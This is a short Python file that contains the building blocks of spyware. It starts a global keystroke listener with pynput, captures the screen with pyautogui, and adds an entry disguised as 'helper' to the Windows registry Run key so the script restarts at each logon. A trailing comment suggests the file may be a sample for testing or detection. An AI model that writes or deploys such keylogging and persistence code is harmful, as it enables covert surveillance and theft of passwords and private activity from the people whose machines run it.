import sys
import winreg

import pyautogui
from pynput.keyboard import Listener


def keys(note):
    Listener(on_press=note).start()


def look():
    return pyautogui.screenshot()


def stay():
    key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, "Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, winreg.KEY_WRITE)
    winreg.SetValueEx(key, "helper", 0, winreg.REG_SZ, sys.executable)  # fires: call
